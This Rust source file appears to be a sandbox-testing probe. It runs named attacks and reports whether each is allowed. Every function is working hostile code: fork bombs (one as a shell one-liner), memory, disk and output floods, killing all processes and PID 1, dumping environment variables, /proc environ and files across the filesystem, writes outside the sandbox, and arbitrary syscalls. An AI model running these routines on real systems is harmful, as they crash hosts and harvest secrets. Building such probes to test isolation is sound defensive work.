// Hostile program in Rust. The first line of standard input names what to try, the others are its arguments.
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{exit, Command};
use std::thread;
use std::time::Duration;

extern "C" {
    fn fork() -> i32;
    fn kill(process: i32, signal: i32) -> i32;
    fn getppid() -> i32;
    fn setsid() -> i32;
    fn setpriority(which: i32, who: u32, priority: i32) -> i32;
    fn prlimit(process: i32, resource: i32, new: *const [u64; 2], old: *mut [u64; 2]) -> i32;
    fn signal(number: i32, action: usize) -> usize;
    fn setrlimit(resource: i32, limits: *const [u64; 2]) -> i32;
    fn wait(status: *mut i32) -> i32;
    fn syscall(number: i64, ...) -> i64;
    fn _exit(code: i32) -> !;
}

const MEGABYTE: usize = 1 << 20;
const IGNORE: usize = 1;
const KILL: i32 = 9;
const STOP: i32 = 19;

fn honest(_: &[String]) { println!("still here"); }

fn fork_bomb(_: &[String]) {
    loop { unsafe { fork(); } }
}

fn shell_fork_bomb(_: &[String]) { Command::new("/bin/bash").args(["-c", ":(){ :|:& };:; sleep 600"]).exec(); }

fn thread_bomb(_: &[String]) {
    loop { thread::spawn(|| thread::sleep(Duration::from_secs(600))); }
}

fn flood(stream: &mut dyn Write) {
    loop {
        if stream.write_all(&[b'x'; 65536]).is_err() { exit(1); }
    }
}

fn output_flood(_: &[String]) { flood(&mut std::io::stdout()); }

fn error_flood(_: &[String]) { flood(&mut std::io::stderr()); }

fn fill(path: &str) -> bool {
    let text = vec![b'x'; MEGABYTE];
    match File::create(path) {
        Ok(mut file) => (0..10240).all(|_| file.write_all(&text).is_ok()),
        Err(_) => false,
    }
}

fn huge_file(_: &[String]) {
    if !fill("big") { exit(1); }
}

fn fills_every_folder(folders: &[String]) {
    for folder in folders { fill(&format!("{folder}/big")); }
    exit(1);
}

fn many_files(_: &[String]) {
    for number in 0..300_000 {
        if File::create(number.to_string()).is_err() { exit(1); }
    }
}

fn memory_hog(_: &[String]) {
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop { held.push(std::hint::black_box(vec![held.len() as u8 | 1; 10 * MEGABYTE])); }
}

fn memory_of_children(_: &[String]) {
    for _ in 0..8 {
        if unsafe { fork() } == 0 {
            let held = std::hint::black_box(vec![1u8; 100 * MEGABYTE]);
            thread::sleep(Duration::from_secs(2));
            unsafe { _exit((held[MEGABYTE] == 2) as i32) }
        }
    }
    while unsafe { wait(std::ptr::null_mut()) } > 0 {}
}

fn deaf_loop(_: &[String]) {
    unsafe {
        for number in 1..65 { signal(number, IGNORE); }
        setrlimit(0, &[u64::MAX, u64::MAX]);
    }
    let mut turn: u64 = 0;
    loop { turn = std::hint::black_box(turn.wrapping_add(1)); }
}

fn sleeper(_: &[String]) { thread::sleep(Duration::from_secs(600)); }

fn stopped(_: &[String]) {
    unsafe { kill(0, STOP); }
    thread::sleep(Duration::from_secs(600));
}

fn daemon(_: &[String]) {
    unsafe {
        if fork() == 0 {
            setsid();
            if fork() == 0 {
                signal(15, IGNORE);
                signal(1, IGNORE);
                loop { thread::sleep(Duration::from_secs(1)); }
            }
            _exit(0);
        }
    }
    println!("parent is done");
}

fn kills_everything(_: &[String]) {
    let parent = unsafe { getppid() };
    for limit in [0, 7] { unsafe { prlimit(1, limit, &[1, 1], std::ptr::null_mut()); } }
    unsafe { setpriority(0, 1, 19); }
    for process in [-1, 1, parent] { unsafe { kill(process, KILL); } }
}

fn reach(kind: &str, host: &str, port: &str) -> bool {
    if kind == "unix" { return UnixStream::connect(host).is_ok(); }
    let bare = if host.contains(':') { format!("[{host}]:{port}") } else { format!("{host}:{port}") };
    let address: SocketAddr = match bare.parse() { Ok(address) => address, Err(_) => return false };
    if kind == "udp" {
        let own = if address.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" };
        if let Ok(made) = UdpSocket::bind(own) { let _ = made.send_to(b"x", address); }
        return false;
    }
    TcpStream::connect_timeout(&address, Duration::from_millis(300)).is_ok()
}

fn connects(targets: &[String]) {
    for target in targets {
        let parts: Vec<&str> = target.split(' ').collect();
        if reach(parts[0], parts[1], parts[2]) { println!("connected {target}"); }
    }
}

fn show(path: &Path) {
    match fs::symlink_metadata(path) {
        Ok(about) if about.is_file() => {}
        _ => return,
    }
    if let Ok(file) = File::open(path) {
        let mut text = Vec::new();
        let _ = file.take(65536).read_to_end(&mut text);
        println!("{}: {}", path.display(), String::from_utf8_lossy(&text));
    }
}

fn walk(root: &Path) {
    if let Ok(entries) = fs::read_dir(root) {
        for entry in entries.flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => walk(&entry.path()),
                _ => show(&entry.path()),
            }
        }
    }
}

fn secrets(paths: &[String]) {
    for (name, value) in std::env::vars_os() { println!("{name:?} {value:?}"); }
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        if entry.file_name().to_string_lossy().starts_with(|c: char| c.is_ascii_digit()) {
            for part in ["environ", "cmdline"] { show(&entry.path().join(part)); }
        }
    }
    for path in paths {
        if fs::symlink_metadata(path).is_ok() { println!("exists {path}"); }
        show(Path::new(path));
    }
    let skipped = ["bin", "boot", "lib", "lib32", "lib64", "libx32", "opt", "proc", "sbin", "sys", "usr"];
    for entry in fs::read_dir("/").into_iter().flatten().flatten() {
        if !skipped.contains(&entry.file_name().to_string_lossy().as_ref()) { walk(&entry.path()); }
    }
    for root in ["/opt/runner", "/proc/1/cwd", "/proc/1/root/tmp"] { walk(Path::new(root)); }
    println!("end of search");
}

fn writes_outside(words: &[String]) {
    let mark = &words[0];
    for word in &words[1..] {
        let (kind, path) = word.split_once(' ').unwrap();
        let target = if kind == "folder" { format!("{path}/{mark}") } else { path.to_string() };
        let is_new = kind != "open";
        let opened = OpenOptions::new().append(is_new).write(true).create(is_new).open(&target);
        let done = opened.and_then(|mut file| if is_new { file.write_all(mark.as_bytes()) } else { Ok(()) });
        if done.is_ok() { println!("wrote {target}"); }
        if kind == "file" { let _ = fs::remove_file(&target); }
    }
}

fn forbidden_calls(calls: &[String]) {
    for call in calls {
        let mut parts = call.split(' ');
        let name = parts.next().unwrap();
        let mut texts: Vec<Vec<u8>> = Vec::new();
        let mut values: Vec<i64> = Vec::new();
        for word in parts {
            if let Some(digits) = word.strip_prefix('x') {
                let mut text = vec![0u8; 256];
                for at in 0..digits.len() / 2 {
                    text[at] = u8::from_str_radix(&digits[2 * at..2 * at + 2], 16).unwrap();
                }
                values.push(text.as_ptr() as i64);
                texts.push(text);
            } else {
                values.push(word.parse().unwrap());
            }
        }
        values.resize(7, 0);
        let v = &values;
        let result = unsafe { syscall(v[0], v[1], v[2], v[3], v[4], v[5], v[6]) };
        if result == -1 {
            println!("refused {name} {}", std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
        } else {
            println!("allowed {name}");
        }
    }
    println!("end of calls");
}

fn leaves_traps(paths: &[String]) {
    for (number, path) in paths.iter().enumerate() { let _ = symlink(path, format!("link{number}")); }
    if let Ok(file) = File::create("holes") { let _ = file.set_len(1 << 40); }
    let _ = fs::create_dir_all("closed/inner");
    let _ = fs::set_permissions("closed", fs::Permissions::from_mode(0));
    let here = std::env::current_dir().unwrap();
    for _ in 0..400 {
        let _ = fs::create_dir("deep");
        let _ = std::env::set_current_dir("deep");
    }
    let _ = std::env::set_current_dir(here);
    let _ = Command::new("/bin/sh").args(["-c", "mkfifo pipe /tmp/pipe; cp -r /proc/self/fdinfo /dev/shm/"]).status();
    println!("traps are set");
}

fn runs_python(lines: &[String]) {
    Command::new("/opt/python/bin/python3").args(["-I", "-S", "-B", "-c", &lines.join("\n")]).exec();
}

fn main() {
    let attacks: &[(&str, fn(&[String]))] = &[
        ("honest", honest), ("fork_bomb", fork_bomb), ("shell_fork_bomb", shell_fork_bomb),
        ("thread_bomb", thread_bomb), ("output_flood", output_flood), ("error_flood", error_flood),
        ("huge_file", huge_file), ("fills_every_folder", fills_every_folder), ("many_files", many_files),
        ("memory_hog", memory_hog), ("memory_of_children", memory_of_children), ("deaf_loop", deaf_loop),
        ("sleeper", sleeper), ("stopped", stopped), ("daemon", daemon), ("kills_everything", kills_everything),
        ("connects", connects), ("secrets", secrets), ("writes_outside", writes_outside),
        ("forbidden_calls", forbidden_calls), ("leaves_traps", leaves_traps), ("runs_python", runs_python),
    ];
    let mut text = String::new();
    std::io::stdin().read_to_string(&mut text).unwrap();
    let lines: Vec<String> = text.lines().map(String::from).collect();
    let (_, attack) = attacks.iter().find(|(name, _)| *name == lines[0]).unwrap();
    attack(&lines[1..]);
}
